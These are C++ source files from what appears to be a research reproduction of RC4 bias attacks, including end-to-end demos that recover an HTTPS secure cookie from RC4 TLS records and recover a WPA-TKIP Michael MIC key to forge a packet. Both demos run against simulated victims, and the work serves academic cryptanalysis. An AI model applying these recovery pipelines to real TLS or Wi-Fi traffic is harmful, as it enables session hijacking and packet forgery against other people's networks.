// Shard-private consumer of one key's long keystream, delivered as
// overlapping windows chunk[0 .. owned + Lookahead()): the first `owned`
// positions belong to this call; the trailing Lookahead() bytes are context
// shared with the next window (a digraph or ABSAB pattern starting at an
// owned position may read up to Lookahead() bytes past it).
//
// Window ordering: each key's windows always arrive in stream order, and
// every window's base offset within its key is a multiple of chunk_bytes
// (itself a 256-multiple), but with interleave > 1 the engine generates up
// to `interleave` keys in lockstep and round-robins their windows — window w
// of key k, then window w of key k+1, ... BeginKey() fires once per key, in
// key order, when the key's lockstep group starts. Sinks that accumulate
// commutative per-window counters (all current ones) are unaffected; a sink
// that needs strictly sequential per-key delivery must be run with
// LongTermEngineOptions::interleave = 1.
class StreamShardSink {
 public:
  virtual ~StreamShardSink() = default;

  // Called at the start of each key's stream; `owned` positions restart at 0.
  virtual void BeginKey() {}

  virtual void ConsumeChunk(std::span<const uint8_t> chunk, size_t owned) = 0;
};

class StreamAccumulator {
 public:
  virtual ~StreamAccumulator() = default;

  // Context bytes past the owned region each window must carry.
  virtual size_t Lookahead() const = 0;

  // Extra per-key drop on top of LongTermEngineOptions::drop (e.g. the
  // aligned-digraph dataset realigns to a 256-block boundary).
  virtual uint64_t ExtraDrop() const { return 0; }

  virtual std::unique_ptr<StreamShardSink> MakeShard() = 0;

  // `keys` is the shard's key count, `owned_per_key` the number of owned
  // positions each key contributed.
  virtual void MergeShard(StreamShardSink& shard, uint64_t keys,
                          uint64_t owned_per_key) = 0;
};

struct LongTermEngineOptions {
  uint64_t keys = 1 << 8;
  uint64_t bytes_per_key = 1 << 24;  // rounded down to a 256-byte multiple
  uint64_t drop = 1024;              // initial bytes discarded per key
  unsigned workers = 0;
  uint64_t seed = 1;
  uint64_t first_key = 0;  // global key-range offset (see EngineOptions)
  size_t chunk_bytes = 1 << 16;  // owned bytes per window (multiple of 256)
  // Keys generated in lockstep per shard (see EngineOptions::interleave and
  // the StreamShardSink window-ordering note above). 0 = auto, 1 = scalar.
  size_t interleave = 0;
  // Lane-kernel selection, same semantics as EngineOptions::kernel.
  std::string kernel;
};

// Streams `bytes_per_key` keystream bytes per key (rounded down to whole
// 256-byte blocks; the chunk size never changes the sample count) through
// per-shard stream sinks. Sharding-invariant exactly like RunKeystreamEngine.
void RunLongTermEngine(const LongTermEngineOptions& options,
                       StreamAccumulator& accumulator);

}  // namespace rc4b

#endif  // SRC_ENGINE_KEYSTREAM_ENGINE_H_
