#include "src/crypto/hmac.h"

#include <gtest/gtest.h>

#include "src/common/bytes.h"

namespace rc4b {
namespace {

// RFC 2202 HMAC-SHA1 test cases.
TEST(HmacTest, Rfc2202Case1) {
  const Bytes key(20, 0x0b);
  const Bytes data = FromString("Hi There");
  EXPECT_EQ(ToHex(HmacSha1::Digest(key, data)),
            "b617318655057264e28bc0b6fb378c8ef146be00");
}

TEST(HmacTest, Rfc2202Case2) {
  const Bytes key = FromString("Jefe");
  const Bytes data = FromString("what do ya want for nothing?");
  EXPECT_EQ(ToHex(HmacSha1::Digest(key, data)),
            "effcdf6ae5eb2fa2d27416d5f184df9c259a7c79");
}

TEST(HmacTest, Rfc2202Case3) {
  const Bytes key(20, 0xaa);
  const Bytes data(50, 0xdd);
  EXPECT_EQ(ToHex(HmacSha1::Digest(key, data)),
            "125d7342b9ac11cd91a39af48aa17b4f63f175d3");
}

TEST(HmacTest, Rfc2202Case4) {
  const Bytes key = FromHex("0102030405060708090a0b0c0d0e0f10111213141516171819");
  const Bytes data(50, 0xcd);
  EXPECT_EQ(ToHex(HmacSha1::Digest(key, data)),
            "4c9007f4026250c6bc8414f9bf50c86c2d7235da");
}

// RFC 2202 case 6: key longer than the block size gets hashed first.
TEST(HmacTest, Rfc2202LongKey) {
  const Bytes key(80, 0xaa);
  const Bytes data = FromString("Test Using Larger Than Block-Size Key - Hash Key First");
  EXPECT_EQ(ToHex(HmacSha1::Digest(key, data)),
            "aa4ae5e15272d00e95705637ce8a3b55ed402112");
}

TEST(HmacTest, StreamingMatchesOneShot) {
  const Bytes key = FromString("streaming-key");
  const Bytes data = FromString("part one and part two");
  HmacSha1 mac(key);
  mac.Update(std::span<const uint8_t>(data.data(), 8));
  mac.Update(std::span<const uint8_t>(data.data() + 8, data.size() - 8));
  EXPECT_EQ(ToHex(mac.Finish()), ToHex(HmacSha1::Digest(key, data)));
}

TEST(HmacTest, ReusableAfterFinish) {
  const Bytes key = FromString("key");
  const Bytes data = FromString("message");
  HmacSha1 mac(key);
  mac.Update(data);
  const auto first = mac.Finish();
  mac.Update(data);
  const auto second = mac.Finish();
  EXPECT_EQ(ToHex(first), ToHex(second));
}

TEST(HmacTest, DifferentKeysDifferentMacs) {
  const Bytes data = FromString("same message");
  const auto a = HmacSha1::Digest(FromString("key-a"), data);
  const auto b = HmacSha1::Digest(FromString("key-b"), data);
  EXPECT_NE(ToHex(a), ToHex(b));
}

}  // namespace
}  // namespace rc4b
