// https_cookie: end-to-end HTTPS secure-cookie attack demo (Sect. 6) on a
// fully simulated victim + server.
//
//   * The victim's browser (simulated) holds a secret 16-character cookie
//     and is induced to send many aligned HTTPS requests over one keep-alive
//     RC4 TLS connection; attacker-controlled cookies surround the target
//     with known plaintext (Listing 3 layout).
//   * The attacker observes TLS records only, accumulates Fluhrer-McGrew
//     pair counts and multi-gap ABSAB differential scores, builds combined
//     double-byte likelihoods, and generates cookie candidates with
//     Algorithm 2 restricted to the cookie alphabet.
//   * Candidates are brute-forced against the (simulated) server.
//
// Real captures at default scale carry far too little signal (the paper
// needs 9 * 2^27 requests), so the default accelerates the *ciphertext*
// side by sampling the captured statistics from their exact distribution at
// a paper-scale request count — the attacker-side pipeline (likelihoods,
// Algorithm 2, brute force) runs unchanged. Use --real-capture=true to run
// honest end-to-end TLS capture at whatever --requests you can afford.
#include <cstdio>

#include "src/common/flags.h"
#include "src/common/rng.h"
#include "src/recovery/likelihood_source.h"
#include "src/sim/cookie_sim.h"
#include "src/tls/cookie_attack.h"
#include "src/tls/session.h"

using namespace rc4b;

int main(int argc, char** argv) {
  FlagSet flags("End-to-end HTTPS secure-cookie recovery (Sect. 6)");
  flags.Define("requests", "0x58000000", "cookie encryptions (11 * 2^27)")
      .Define("real-capture", "false",
              "true: honest TLS capture at --requests (slow); false: sample "
              "the captured statistics at paper scale (fast)")
      .Define("alignment", "48", "cookie keystream position mod 256")
      .Define("attempts", "0x20000", "brute-force budget (2^17 for the demo)")
      .Define("max-gap", "128", "largest ABSAB gap")
      .Define("seed", "99", "simulation seed");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  Xoshiro256 rng(flags.GetUint("seed"));
  const auto alphabet = CookieAlphabet64();

  // --- The victim: a secret cookie in an aligned request ------------------
  Bytes secret_cookie(16);
  for (auto& b : secret_cookie) {
    b = alphabet[rng.Below(alphabet.size())];
  }
  HttpRequestTemplate tmpl;
  tmpl.total_size = 492;  // 512-byte encrypted records on the wire
  TlsVictimSession session(tmpl, secret_cookie, flags.GetUint("alignment"), rng);
  std::printf("victim session up: cookie at request offset %zu, keystream "
              "alignment %zu (mod 256)\n",
              session.CookieOffsetInRequest(),
              session.CookieStreamPosition(0) % 256);

  CookieAttackLayout layout;
  layout.cookie_offset = session.CookieOffsetInRequest();
  layout.request_size = tmpl.total_size;
  layout.max_gap = flags.GetUint("max-gap");

  const uint8_t m1 = session.RequestPlaintext()[layout.cookie_offset - 1];
  const uint8_t m_last =
      session.RequestPlaintext()[layout.cookie_offset + layout.cookie_length];
  const size_t align1 = session.CookieStreamPosition(0) % 256;  // 0-based offset

  const uint64_t requests = flags.GetUint("requests");
  DoubleByteTables transitions;

  if (flags.GetBool("real-capture")) {
    // --- Honest capture: JavaScript-driven request flood, observed on wire.
    std::printf("capturing %llu real TLS records...\n",
                static_cast<unsigned long long>(requests));
    CookieCaptureStats stats(layout, session.RequestPlaintext());
    for (uint64_t k = 0; k < requests; ++k) {
      const Bytes record = session.NextRequest();
      if (!stats.AddRequest(
              std::span<const uint8_t>(record).subspan(kTlsRecordHeaderSize))) {
        std::printf("capture error: record %llu shorter than the request\n",
                    static_cast<unsigned long long>(k));
        return 1;
      }
    }
    // The captured-statistics likelihood source: FM + multi-gap ABSAB
    // combination behind the same interface the sampled path uses below.
    recovery::CapturedCookieLikelihoodSource source(stats, align1);
    transitions = source.Tables();
  } else {
    // --- Paper-scale statistics via the shared Fig. 10 simulation pipeline
    // (src/sim/cookie_sim.h): exact Poissonized FM counts plus multi-gap
    // ABSAB scores for the true cookie's 17 adjacent pairs.
    std::printf("sampling captured statistics for %llu requests (paper's 94%% "
                "operating point is 9*2^27 with 2^23 attempts)...\n",
                static_cast<unsigned long long>(requests));
    sim::CookieSimOptions sim_options;
    sim_options.cookie_length = secret_cookie.size();
    sim_options.alignment = align1;
    sim_options.max_gap = layout.max_gap;
    sim_options.m1 = m1;
    sim_options.m_last = m_last;
    const sim::CookieSimContext context(sim_options);
    sim::SampledCookieLikelihoodSource source(context, secret_cookie, requests,
                                              rng);
    transitions = source.Tables();
  }

  // --- Brute force against the server -------------------------------------
  std::printf("generating candidates with Algorithm 2 (%zu-char alphabet) and "
              "brute-forcing up to %llu of them...\n",
              alphabet.size(),
              static_cast<unsigned long long>(flags.GetUint("attempts")));
  // The "server": in the real attack this is ~20000 pipelined HTTPS requests
  // per second; here a constant-time comparison stands in for it.
  uint64_t server_hits = 0;
  const auto try_cookie = [&](const Bytes& candidate) {
    ++server_hits;
    return candidate == secret_cookie;
  };
  const auto result =
      BruteForceCookie(transitions, m1, m_last, alphabet,
                       flags.GetUint("attempts"), try_cookie);

  if (result.success) {
    std::printf("\ncookie RECOVERED after %llu attempts: %s\n",
                static_cast<unsigned long long>(result.attempts),
                std::string(result.cookie.begin(), result.cookie.end()).c_str());
    std::printf("(true cookie:                          %s)\n",
                std::string(secret_cookie.begin(), secret_cookie.end()).c_str());
    std::printf("at the paper's 20000 tests/second this is %.1f seconds of "
                "brute force.\n",
                static_cast<double>(result.attempts) / 20000.0);
    return 0;
  }
  std::printf("\ncookie not in the first %llu candidates — increase "
              "--requests or --attempts (paper: 9*2^27 requests, 2^23 "
              "attempts, 94%% success).\n",
              static_cast<unsigned long long>(result.attempts));
  return 1;
}
