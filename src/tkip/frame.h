// TKIP cryptographic encapsulation (Sect. 2.2 / Fig. 2 of the paper):
//   plaintext MSDU  ->  MSDU || MIC(Michael) || ICV(CRC-32),
// RC4-encrypted under the per-packet key from the TKIP key mixing, with the
// 48-bit TSC carried in the clear.
#ifndef SRC_TKIP_FRAME_H_
#define SRC_TKIP_FRAME_H_

#include <array>
#include <cstdint>
#include <optional>
#include <span>

#include "src/common/bytes.h"
#include "src/crypto/michael.h"
#include "src/tkip/key_mixing.h"

namespace rc4b {

// Station-side TKIP state for one direction of traffic.
struct TkipPeer {
  std::array<uint8_t, 16> tk{};       // temporal (encryption) key
  MichaelKey mic_key{};               // direction-specific Michael key
  std::array<uint8_t, 6> ta{};        // transmitter MAC
  std::array<uint8_t, 6> da{};        // destination MAC
  std::array<uint8_t, 6> sa{};        // source MAC
  uint8_t priority = 0;
};

struct TkipFrame {
  uint64_t tsc = 0;     // transmitted in the clear in the real MAC header
  Bytes ciphertext;     // RC4(MSDU || MIC || ICV)
};

// Number of trailing bytes appended to the MSDU (8-byte MIC + 4-byte ICV).
inline constexpr size_t kTkipTrailerSize = 12;

// Encrypts `msdu` (e.g. LLC/SNAP || IP || TCP || payload) under `tsc`.
TkipFrame TkipEncapsulate(const TkipPeer& peer, std::span<const uint8_t> msdu,
                          uint64_t tsc);

// Decrypts and verifies; returns the MSDU or nullopt on ICV/MIC failure.
std::optional<Bytes> TkipDecapsulate(const TkipPeer& peer, const TkipFrame& frame);

// Builds the plaintext trailer (MIC || ICV) for a given MSDU — what the TKIP
// attack must recover from ciphertext alone.
Bytes TkipTrailer(const TkipPeer& peer, std::span<const uint8_t> msdu);

}  // namespace rc4b

#endif  // SRC_TKIP_FRAME_H_
