#include <cmath>
// Integration tests at the paper's operating points, using the validated
// synthetic-statistics samplers so they run in seconds:
//   * Fig. 7's combined estimator at 2^34 ciphertexts recovers a byte pair,
//   * Fig. 10's cookie attack at 15 x 2^27 ciphertexts ranks the true cookie
//     within the 2^23-attempt budget,
//   * the Fig. 8 pipeline recovers the Michael key under a perfect model.
#include <gtest/gtest.h>

#include "src/biases/fluhrer_mcgrew.h"
#include "src/biases/mantin.h"
#include "src/common/rng.h"
#include "src/core/likelihood.h"
#include "src/core/rank.h"
#include "src/core/synthetic.h"
#include "src/tls/cookie_attack.h"

namespace rc4b {
namespace {

std::vector<double> AllAbsabAlphas() {
  std::vector<double> alphas;
  for (uint64_t g = 0; g <= 128; ++g) {
    alphas.push_back(AbsabAlpha(g));
    alphas.push_back(AbsabAlpha(g));
  }
  return alphas;
}

TEST(PaperPointTest, Fig7CombinedRecoversPairAt2To34) {
  const uint8_t counter = 33;
  const auto fm_table = FmDigraphTable(counter, 1 << 20);
  const auto fm_model = FmSparseModel(counter, 1 << 20);
  const auto alphas = AllAbsabAlphas();
  const uint64_t trials = uint64_t{1} << 34;

  int wins = 0;
  const int sims = 10;
  for (int s = 0; s < sims; ++s) {
    Xoshiro256 rng(500 + s);
    const uint8_t p1 = rng.Byte(), p2 = rng.Byte();
    const size_t truth = static_cast<size_t>(p1) * 256 + p2;
    const auto counts = SampleCiphertextPairCounts(fm_table, p1, p2, trials, rng);
    auto lambda = DoubleByteLogLikelihoodSparse(counts, trials, fm_model);
    const auto absab =
        SampleAbsabScoreTable(alphas, trials, static_cast<uint16_t>(truth), rng);
    CombineInPlace(lambda, absab);
    wins += ArgMax(lambda) == truth ? 1 : 0;
  }
  // Fig. 7: the combined estimator is at ~100% by 2^34.
  EXPECT_GE(wins, 9);
}

TEST(PaperPointTest, Fig10CookieWithinBruteForceBudgetAt15x2To27) {
  const auto alphabet = CookieAlphabet64();
  const size_t cookie_len = 16;
  const uint8_t m1 = '=', m_last = ';';
  const uint64_t trials = uint64_t{15} << 27;
  const size_t alignment = 48;

  int wins = 0;
  const int sims = 6;
  for (int s = 0; s < sims; ++s) {
    Xoshiro256 rng(900 + s);
    Bytes truth(cookie_len);
    for (auto& b : truth) {
      b = alphabet[rng.Below(alphabet.size())];
    }
    DoubleByteTables transitions(cookie_len + 1);
    for (size_t t = 0; t <= cookie_len; ++t) {
      const uint8_t p1 = t == 0 ? m1 : truth[t - 1];
      const uint8_t p2 = t == cookie_len ? m_last : truth[t];
      const uint8_t counter = PrgaCounterAtPosition(alignment + t);
      const auto counts = SampleCiphertextPairCounts(
          FmDigraphTable(counter, 1 << 20), p1, p2, trials, rng);
      transitions[t] = DoubleByteLogLikelihoodSparse(
          counts, trials, FmSparseModel(counter, 1 << 20));
      std::vector<double> alphas;
      for (uint64_t g = (t <= 15 ? 15 - t : 0); g <= 128; ++g) {
        alphas.push_back(AbsabAlpha(g));
      }
      for (uint64_t g = t + 1; g <= 128; ++g) {
        alphas.push_back(AbsabAlpha(g));
      }
      const auto absab = SampleAbsabScoreTable(
          alphas, trials, static_cast<uint16_t>(p1 << 8 | p2), rng);
      CombineInPlace(transitions[t], absab);
    }
    const auto bracket = MarkovRank(transitions, m1, m_last, truth, alphabet);
    wins += bracket.estimate() < std::exp2(23) ? 1 : 0;
  }
  // Fig. 10: ~94% success at 9 x 2^27 already; at 15 x 2^27 essentially all.
  EXPECT_GE(wins, 5);
}

// Candidate generation and rank agree: the rank DP's bracket around the true
// cookie must be consistent with where Algorithm 2 actually emits it.
TEST(PaperPointTest, RankDpConsistentWithAlgorithm2Emission) {
  const auto alphabet = CookieAlphabet64();
  const size_t cookie_len = 6;  // small space so Algorithm 2 can reach deep
  const uint8_t m1 = '=', m_last = ';';
  Xoshiro256 rng(4242);
  Bytes truth(cookie_len);
  for (auto& b : truth) {
    b = alphabet[rng.Below(alphabet.size())];
  }
  // Weak-signal tables: truth lands at a nontrivial rank.
  DoubleByteTables transitions(cookie_len + 1, std::vector<double>(65536));
  for (auto& table : transitions) {
    for (auto& v : table) {
      v = -rng.UnitDouble() * 0.3;
    }
  }
  transitions[2][static_cast<size_t>(truth[1]) * 256 + truth[2]] += 0.4;

  const auto bracket = MarkovRank(transitions, m1, m_last, truth, alphabet, 1 << 14);
  const auto candidates =
      GenerateCandidatesDouble(transitions, m1, m_last, 4000, alphabet);
  int64_t emitted_rank = -1;
  for (size_t i = 0; i < candidates.size(); ++i) {
    if (candidates[i].plaintext == truth) {
      emitted_rank = static_cast<int64_t>(i);
      break;
    }
  }
  if (emitted_rank >= 0) {
    EXPECT_LE(bracket.lower, static_cast<double>(emitted_rank) + 2);
    EXPECT_GE(bracket.upper + 2, static_cast<double>(emitted_rank));
  } else {
    // Truth beyond the emitted horizon: the DP must agree it is deep.
    EXPECT_GT(bracket.upper, 3000.0);
  }
}

}  // namespace
}  // namespace rc4b
