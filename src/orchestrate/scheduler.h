// Fault-tolerant campaign scheduler: drives every shard of a manifest to
// completion against a pool of worker processes (docs/orchestrate.md).
//
// Cluster-in-a-box: the process boundary stands in for the host boundary.
// Each worker forks, takes the shard's lease (lease.h), runs the
// checkpointed ShardRunner with the lease heartbeat renewed at every
// checkpoint, and exits with the shared exit-code contract
// (src/common/retry.h). The parent reaps exits, validates the artifacts a
// "successful" worker left behind (a CRC flip after commit must not
// survive), retries failures under the RetryPolicy, kills workers whose
// heartbeats go stale, and quarantines a shard — campaign degraded, not
// aborted — once its attempt budget is spent.
#ifndef SRC_ORCHESTRATE_SCHEDULER_H_
#define SRC_ORCHESTRATE_SCHEDULER_H_

#include <cstdint>
#include <string>
#include <vector>

#include <sys/types.h>

#include "src/common/retry.h"
#include "src/orchestrate/clock.h"
#include "src/store/manifest.h"
#include "src/store/shard_runner.h"

namespace rc4b::orchestrate {

struct CampaignOptions {
  store::ShardRunOptions shard;  // checkpoint cadence == heartbeat cadence
  RetryPolicy retry;             // attempt budget + backoff per shard
  // A lease whose heartbeat is older than this is a dead or stalled worker;
  // must comfortably exceed the time one checkpoint step takes.
  uint64_t lease_ttl_ms = 10000;
  uint64_t poll_ms = 25;      // scheduler reap/launch cadence
  uint32_t max_parallel = 2;  // concurrent worker processes
  // Incremental campaigns: shards ending at or below this global key are
  // already covered by a previous merged grid and are skipped outright
  // (their files may no longer exist). See MergeOptions::base.
  uint64_t merged_through_key = 0;
  Clock* clock = nullptr;  // null = SystemClock::Instance()
};

enum class ShardState : uint8_t {
  kPending = 0,
  kRunning,
  kDone,
  kSkipped,      // covered by a previous merge (incremental campaign)
  kQuarantined,  // attempt budget spent; excluded from the merge
};

const char* ShardStateName(ShardState state);

struct ShardStatus {
  ShardState state = ShardState::kPending;
  uint32_t attempts = 0;         // worker launches so far
  uint64_t keys_completed = 0;   // from checkpoint/final provenance
  std::string note;              // last failure / quarantine reason
  std::vector<std::string> quarantined_files;  // invalid artifacts set aside
};

struct CampaignReport {
  std::vector<ShardStatus> shards;

  bool complete() const;        // every shard done or skipped
  size_t quarantined() const;   // shards excluded from the merge
  std::string Summary() const;  // human-readable, one line per shard
};

// Reads campaign progress from on-disk provenance without running anything:
// per shard, the keys completed according to its final grid or checkpoint.
// Invalid or missing artifacts count as zero progress.
std::vector<uint64_t> CampaignProgress(const store::Manifest& manifest,
                                       const std::string& manifest_path);

class CampaignScheduler {
 public:
  CampaignScheduler(store::Manifest manifest, std::string manifest_path,
                    CampaignOptions options);

  // Runs the campaign to the end: returns only when every shard is done,
  // skipped, or quarantined. Fails (fatal) only for campaign-level errors —
  // an invalid manifest; per-shard failure degrades the report, it never
  // aborts the campaign. Callers inspect report->quarantined() and merge
  // with MergeOptions::allow_missing accordingly.
  IoStatus Run(CampaignReport* report);

 private:
  struct Slot {
    ShardStatus status;
    pid_t pid = -1;
    uint64_t launched_ms = 0;
    uint64_t not_before_ms = 0;  // backoff gate for the next launch
    bool kill_sent = false;
  };

  void InitialScan();
  void Launch(uint32_t index, uint64_t now_ms);
  void HandleExit(uint32_t index, int wait_status, uint64_t now_ms);
  void AttemptFailed(uint32_t index, const std::string& reason, uint64_t now_ms);
  // Moves invalid final/checkpoint artifacts to "<path>.quarantined<N>";
  // returns how many were set aside. Valid checkpoints are kept (resume).
  size_t QuarantineInvalidArtifacts(uint32_t index);
  void RecordProgress(uint32_t index);
  std::string FinalPath(uint32_t index) const;

  store::Manifest manifest_;
  std::string manifest_path_;
  CampaignOptions options_;
  Clock* clock_;
  std::vector<Slot> slots_;
};

}  // namespace rc4b::orchestrate

#endif  // SRC_ORCHESTRATE_SCHEDULER_H_
