// tkip_attack: end-to-end WPA-TKIP attack demo (Sect. 5 of the paper) on a
// fully simulated network.
//
//   victim  --- identical TCP retransmissions, TKIP-encrypted, TSC++ --->
//   attacker sniffs ciphertexts, knows/derives the packet headers, decrypts
//   the unknown MIC+ICV trailer via per-TSC likelihoods + CRC pruning, then
//   inverts Michael to obtain the MIC key and forges a packet the AP-side
//   receiver accepts.
//
// The demo runs at a configurable scale. The default "oracle" mode gives the
// attacker an exact per-TSC model for the trailer positions so the whole
// pipeline (capture -> likelihoods -> candidate traversal -> CRC prune ->
// Michael inversion -> forgery) completes in seconds; --oracle=false uses a
// scaled-down honestly-trained model (the Fig. 8 bench regime).
#include <cstdio>

#include "src/common/flags.h"
#include "src/common/rng.h"
#include "src/core/likelihood.h"
#include "src/net/packet.h"
#include "src/recovery/likelihood_source.h"
#include "src/sim/tkip_sim.h"
#include "src/tkip/attack.h"
#include "src/tkip/frame.h"
#include "src/tkip/header_recovery.h"
#include "src/tkip/injection.h"
#include "src/tkip/tsc_model.h"

using namespace rc4b;

int main(int argc, char** argv) {
  FlagSet flags("End-to-end WPA-TKIP MIC key recovery (Sect. 5)");
  flags.Define("frames", "0x100000", "injected packet copies captured (2^20)")
      .Define("oracle", "true",
              "true: attacker holds an exact per-TSC model (fast demo); "
              "false: train a scaled-down model (Fig. 8 regime)")
      .Define("keys-per-tsc", "0x40000", "model keys per TSC1 (oracle=false)")
      .Define("budget", "0x4000000", "candidate traversal budget (2^26)")
      .Define("seed", "2024", "simulation seed");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  Xoshiro256 rng(flags.GetUint("seed"));

  // --- The WPA-TKIP network under attack --------------------------------
  const TkipPeer victim = sim::RandomPeer(rng);

  // Sect. 5.2's optimal injected packet (48 bytes of headers + 7-byte
  // payload): 8 strongly-biased keystream positions under the MIC+ICV and a
  // frame length unique on the air. Shared with the Fig. 8/9 simulations.
  const Bytes msdu = sim::InjectedPacket();
  const Bytes true_trailer = TkipTrailer(victim, msdu);  // hidden from attacker
  const size_t first = msdu.size() + 1;
  const size_t last = msdu.size() + kTkipTrailerSize;
  std::printf("victim set up: %zu-byte TCP packet, MIC+ICV at keystream "
              "positions %zu..%zu\n",
              msdu.size(), first, last);

  // --- Phase 1: attacker's keystream model --------------------------------
  // The honest per-TSC model for the trailer positions needs ~2^36 keys (the
  // paper spent 10 CPU-years on this step; DESIGN.md "Substitutions"). The
  // demo trains a small model and, in the default perfect-model mode, runs
  // the victim's trailer keystream from exactly that distribution so the
  // whole attack pipeline can be demonstrated end-to-end in seconds.
  TkipTscModel model(first, last);
  std::printf("training per-TSC1 model (%llu keys per class)...\n",
              static_cast<unsigned long long>(flags.GetUint("keys-per-tsc")));
  model.Generate(flags.GetUint("keys-per-tsc"), flags.GetUint("seed") + 1);

  // --- Phase 2: capture ---------------------------------------------------
  const uint64_t frames = flags.GetUint("frames");
  const bool oracle = flags.GetBool("oracle");
  TkipCaptureStats stats(first, last);
  std::printf(oracle ? "capturing %llu retransmissions (perfect-model victim: "
                       "trailer keystream drawn from the attacker's model)...\n"
                     : "capturing %llu TKIP-encrypted retransmissions (real "
                       "key mixing + RC4 per packet)...\n",
              static_cast<unsigned long long>(frames));
  sim::TrailerFrameSource source(model, oracle, victim, msdu, true_trailer,
                                 /*initial_tsc=*/1, flags.GetUint("seed") + 2);
  for (uint64_t i = 0; i < frames; ++i) {
    if (!stats.AddFrame(source.NextFrame())) {
      std::printf("capture error: frame %llu shorter than the trailer range\n",
                  static_cast<unsigned long long>(i));
      return 1;
    }
  }

  // --- Phase 3: recover the unknown header fields (Sect. 5.3) -------------
  // The internal client IP, client port and TTL are a priori unknown; the
  // IP/TCP checksums let us recover them by the same candidate-prune
  // technique. Here we demonstrate the pruning step itself: with a flat
  // (no-signal) likelihood prior it would take ~2^40 candidates, so the demo
  // seeds realistic likelihood tables (a few plausible TTLs / subnets /
  // ephemeral ports ranked first, as an attacker would configure).
  {
    Bytes template_msdu = msdu;
    const auto positions = UnknownHeaderLayout::Positions();
    SingleByteTables header_tables(positions.size(), std::vector<double>(256, -6.0));
    for (size_t i = 0; i < positions.size(); ++i) {
      // Plausibility prior: the true value somewhere among a handful of
      // likely candidates per byte.
      for (int delta = 0; delta < 8; ++delta) {
        header_tables[i][(msdu[positions[i]] + delta) & 0xff] = -0.1 * (delta + 1);
      }
      template_msdu[positions[i]] = 0;
    }
    const auto header_result = RecoverHeaderFields(template_msdu, header_tables,
                                                   1 << 22);
    if (header_result.found) {
      std::printf("header fields recovered after %llu candidates: TTL=%u, "
                  "client=%u.%u.%u.%u:%u\n",
                  static_cast<unsigned long long>(header_result.candidates_tried),
                  header_result.ttl, header_result.client_address >> 24,
                  (header_result.client_address >> 16) & 0xff,
                  (header_result.client_address >> 8) & 0xff,
                  header_result.client_address & 0xff, header_result.client_port);
    } else {
      std::printf("header-field recovery did not converge (demo prior too "
                  "flat); continuing with known headers\n");
    }
  }

  // --- Phase 4: likelihoods, candidates, CRC pruning ----------------------
  // The per-TSC1 likelihood source plus the RecoveryEngine's CRC-verified
  // traversal (inside RecoverTkipTrailer) — the same unified pipeline every
  // registry scenario runs (docs/recovery.md).
  std::printf("computing per-position likelihoods and traversing candidates "
              "in decreasing likelihood...\n");
  recovery::TkipTscLikelihoodSource likelihood_source(stats, model);
  const auto tables = likelihood_source.Tables();
  const auto result = RecoverTkipTrailer(msdu, tables, flags.GetUint("budget"),
                                         true_trailer, victim);
  if (!result.found) {
    std::printf("no candidate with a consistent ICV within the budget — rerun "
                "with more --frames or a larger --budget.\n");
    return 1;
  }
  std::printf("candidate #%llu has a consistent ICV\n",
              static_cast<unsigned long long>(result.candidates_tried));
  std::printf("decrypted trailer: %s (%s)\n", ToHex(result.trailer).c_str(),
              result.correct ? "matches the true MIC+ICV" : "FALSE POSITIVE");

  // --- Phase 5: Michael inversion and forgery ------------------------------
  const auto key_bytes = MichaelKeyToBytes(result.mic_key);
  std::printf("Michael MIC key (inverted from the decrypted MIC): %s\n",
              ToHex(key_bytes).c_str());
  std::printf("true MIC key:                                      %s\n",
              ToHex(MichaelKeyToBytes(victim.mic_key)).c_str());

  TkipPeer forger = victim;  // attacker knows TK? No — but the MIC key lets
  forger.mic_key = result.mic_key;  // it forge via Michael countermeasure
  const Bytes forged_payload = FromString("owned :)");
  Ipv4Header evil_ip;
  evil_ip.source = 0x0a000001;
  evil_ip.destination = 0xc0a80165;
  const Bytes forged_msdu =
      BuildTcpPacket(LlcSnapHeader{}, evil_ip, TcpHeader{}, forged_payload);
  const TkipFrame forged = TkipEncapsulate(forger, forged_msdu, frames + 2);
  const bool accepted = TkipDecapsulate(victim, forged).has_value();
  std::printf("forged packet with recovered MIC key: %s\n",
              accepted ? "ACCEPTED by the receiver" : "rejected");
  return result.correct && accepted ? 0 : 1;
}
