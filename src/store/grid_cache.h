// Load-or-generate cache of keystream grids (docs/store.md).
//
// Scenarios and benches that need an engine-measured grid (e.g.
// singlebyte-beyond256, the Fig. 4/6 and Table 1-2 harnesses) can point
// DatasetOptions::cache_dir at a directory: the first run generates the grid
// and stores it as a provenance-stamped grid file; later runs load it back
// bit-exactly instead of recomputing — including grids produced offline by
// the grid_plan / grid_gen / grid_merge pipeline, since the file name and
// metadata are pure functions of the generation parameters. A cache hit is
// only accepted when the stored provenance matches the request exactly
// (kind, seed, key range, rows, drop, pairs, bytes-per-key); checksum or
// metadata mismatches are reported, warned about, and regenerated — never
// used silently.
#ifndef SRC_STORE_GRID_CACHE_H_
#define SRC_STORE_GRID_CACHE_H_

#include <string>
#include <utility>
#include <vector>

#include "src/biases/dataset.h"
#include "src/store/grid_file.h"

namespace rc4b::store {

// The provenance a DatasetOptions request pins down, per family.
GridMeta MetaForSingleByte(size_t positions, const DatasetOptions& options);
GridMeta MetaForConsecutive(size_t positions, const DatasetOptions& options);
GridMeta MetaForPair(const std::vector<std::pair<uint32_t, uint32_t>>& pairs,
                     const DatasetOptions& options);
GridMeta MetaForLongTermDigraph(const LongTermOptions& options);

class GridCache {
 public:
  explicit GridCache(std::string dir) : dir_(std::move(dir)) {}

  const std::string& dir() const { return dir_; }

  // Deterministic cache file for this provenance:
  // "<dir>/<kind>-r<rows>-s<seed>-k<begin>-<end>-d<drop>-b<bpk>[-p<crc>].grid".
  std::string PathFor(const GridMeta& want) const;

  // Probes the cache without generating. Fails with a path-qualified
  // diagnostic when the file is missing, corrupt (checksum / truncation /
  // version), or stores a grid of different provenance.
  IoStatus TryLoad(const GridMeta& want, StoredGrid* out) const;

  // The load-or-generate entry points used by src/biases/dataset.cc when
  // cache_dir is set. On any TryLoad failure other than a missing file a
  // warning with the diagnostic goes to stderr; the grid is then generated
  // in-process (bit-identical to the cached result by construction) and
  // stored back atomically.
  SingleByteGrid LoadOrGenerateSingleByte(size_t positions,
                                          DatasetOptions options);
  DigraphGrid LoadOrGenerateConsecutive(size_t positions, DatasetOptions options);
  DigraphGrid LoadOrGeneratePair(
      const std::vector<std::pair<uint32_t, uint32_t>>& pairs,
      DatasetOptions options);
  DigraphGrid LoadOrGenerateLongTermDigraph(LongTermOptions options);

 private:
  StoredGrid LoadOrGenerate(const GridMeta& want, unsigned workers,
